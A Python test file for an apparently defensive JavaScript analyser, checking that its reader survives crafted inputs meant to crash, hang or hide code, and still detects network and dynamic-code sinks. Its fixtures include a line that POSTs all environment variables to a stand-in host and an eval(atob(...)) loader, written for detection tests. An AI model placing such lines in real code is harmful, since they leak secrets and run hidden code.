"""Input that is made to crash, hang or blind a reader."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.javascript.read import read
from assay.model.source import BehaviourKind, SourceFile

THEFT = b"\nfetch('https://a.invalid', {method: 'POST', body: JSON.stringify(process.env)});\n"
LOADER = b"\neval(atob('Y29uc29sZS5sb2coMSk='));\n"
HOSTILE = {
    "opening brackets": b"(" * 200_000,
    "opening arrays": b"[" * 200_000,
    "opening braces": b"{" * 200_000,
    "nested calls": b"a(" * 50_000 + b")" * 50_000,
    "nested functions": b"function f(){" * 5_000 + b"}" * 5_000,
    "long sum": b"x=" + b"'a'+" * 100_000 + b"'a'",
    "long chain of members": b"a" + b".b" * 100_000,
    "long chain of calls": b"a" + b".b()" * 30_000,
    "nested templates": b"`${" * 20_000,
    "one long line": b"a=1;" * 500_000,
    "brackets and signs": b"(![]+[])[+[]]+" * 10_000 + b"1",
    "zeros": b"\0" * 100_000,
    "unclosed text": b"'" + b"\\x41" * 100_000,
    "unclosed comment": b"/*" * 100_000,
    "picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 400,
    "names that name each other": b"".join(b"var a%d=a%d;" % (n, n + 1) for n in range(5_000)),
    "names in a ring": b"var a=b,b=c,c=a;",
    "one letter": b"var e=e(e,e,e);" * 20_000,
    "escapes": b"\\u" * 100_000,
    "blanks": b" " * 1_000_000 + b"x",
}


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("tail", [b"", THEFT + LOADER], ids=["alone", "with calls"])
def test_hostile_files_are_read_to_an_end(data: bytes, tail: bytes) -> None:
    assert read("a.js", data + tail, ("main",)).size_bytes == len(data + tail)


def sinks(file: SourceFile) -> set[BehaviourKind]:
    return {flow.sink.kind for flow in file.flows}


@pytest.mark.parametrize(
    "name",
    [
        "long sum",
        "long chain of members",
        "one long line",
        "brackets and signs",
        "names that name each other",
        "one letter",
        "blanks",
        "names in a ring",
    ],
)
def test_padding_does_not_hide_what_stands_before_it(name: str) -> None:
    found = sinks(read("a.js", THEFT + LOADER + HOSTILE[name], ("main",)))
    assert found == {BehaviourKind.NETWORK, BehaviourKind.DYNAMIC_CODE}


@pytest.mark.parametrize("argument", ["(" * 5_000, "'a'+" * 20_000 + "'b'", "[" * 5_000, "a." * 20_000 + "b"])
def test_hostile_arguments_are_followed_within_bounds(argument: str) -> None:
    read("a.js", f"atob('a');\neval({argument}));\nfetch({argument}, process.env));".encode(), ("main",))


@given(st.binary(max_size=400), st.sampled_from([b"", THEFT, LOADER]), st.sampled_from(["a.js", "a.ts", "a.tsx", "a"]))
@settings(max_examples=150, deadline=None)
def test_any_bytes_are_read(data: bytes, tail: bytes, path: str) -> None:
    assert read(path, data + tail, ("main",)).path == path


_PIECES = st.sampled_from(
    [
        *("eval(", "atob(", "process.env", "fetch(", "require('https')", "x", "=", ";", ")", "{", "}", "[", "]"),
        *("=>", "function f(a)", "+", "'a'", "`${", "}`", "...", ",", "const {env} =", ".then(", "new Function("),
        *("Buffer.from('61','hex')", ".join('')", "\n", "/*", "//", "await ", "return ", "\\x61", "if(", "for(k in "),
    ]
)


@given(st.lists(_PIECES, max_size=40))
@settings(max_examples=300, deadline=None)
def test_any_order_of_telling_pieces_is_read(pieces: list[str]) -> None:
    text = "".join(pieces)
    file = read("a.js", text.encode())
    assert all(1 <= flow.sink.location.line <= text.count("\n") + 1 for flow in file.flows)
